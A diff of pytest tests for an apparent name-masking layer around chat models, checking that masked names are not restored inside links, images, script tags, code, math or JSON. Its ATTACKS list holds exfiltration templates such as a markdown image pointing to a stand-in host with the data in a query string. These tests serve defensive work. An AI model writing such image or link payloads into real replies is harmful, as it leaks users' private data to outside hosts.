@@ -35,6 +35,7 @@ class Echo(FakeListChatModel):
 
 
 SAID = "I am Zorblaxia Novak, order 88213.471."
+HELLO = "I am Zorblaxia Novak , hello"
 
 
 def test_a_model_is_talked_with(tracer: Tracer) -> None:
@@ -84,3 +85,50 @@ def test_a_talk_inside_a_traced_run_is_refused(tracer: Tracer) -> None:
         RunnableLambda(lambda text: talk.invoke(text)).invoke(SAID, config={"callbacks": [tracer]})
     with pytest.raises(InputError, match="image_url"):
         talk.invoke([HumanMessage([{"type": "image_url", "image_url": {"url": "x"}}])])
+
+
+#: What a model may write, the option that opens the place, and the reason without it.
+ATTACKS: list[tuple[str, dict[str, Any], str]] = [
+    ("![x](https://e.example/?q={})", {"restore_places": "all"}, "link"),
+    ("[x](https://ok.example/?q={})", {"restore_hosts": ["ok.example"]}, "link"),
+    ("Run `{}`.", {"restore_places": ["code"]}, "code"),
+    ("So $x_{{}}$ is.", {"restore_places": ["math"]}, "math"),
+    ('{"name": "{}"}', {"restore_places": ["json"]}, "json"),
+    ("Look: <img alt='{}'>", {"restore_places": "all"}, "markup"),
+    ("https://e.example/?q={}", {"restore_places": "all"}, "chunk"),
+    ("<script>{}", {"restore_places": "all"}, "active"),
+]
+
+
+@pytest.mark.parametrize(("reply", "option", "reason"), ATTACKS)
+def test_replies_are_restored_in_running_text_alone(reply: str, option: dict[str, Any], reason: str) -> None:
+    for given in ({}, option):
+        for length in (1, 2, 3, 4, 5, 999):
+
+            def write(messages: Any, length: int = length) -> Any:
+                text = reply.replace("{}", " ".join(next(messages)[0].text.split()[2:4]))
+                for place in range(0, len(text), length):
+                    yield AIMessageChunk(content=text[place : place + length])
+
+            talk = Converse(RunnableGenerator(write), Conversation(**given))
+            for found in (talk.invoke(HELLO), sum_of(talk.stream(HELLO))):
+                assert ("Zorblaxia Novak" in found.text) is bool(given)
+                skipped = found.response_metadata["textveil"]["skipped"]
+                assert [why for _, why in skipped] == ([] if given else [reason])
+
+
+def sum_of(chunks: Any) -> Any:
+    first, *rest = chunks
+    return sum(rest, first)
+
+
+def test_no_place_is_spread_over_two_parts() -> None:
+    def write(messages: Any) -> Any:
+        name = " ".join(next(messages)[0].text.split()[2:4])
+        for index, text in enumerate(("![x](<https://e.example/?q=", f" {name} >)")):
+            yield AIMessageChunk(content=[{"type": "text", "text": text, "index": index}])
+
+    talk = Converse(RunnableGenerator(write), Conversation())
+    for found in (talk.invoke(HELLO), sum_of(talk.stream(HELLO))):
+        assert "Novak" not in found.text
+        assert [why for _, why in found.response_metadata["textveil"]["skipped"]] == ["link"]
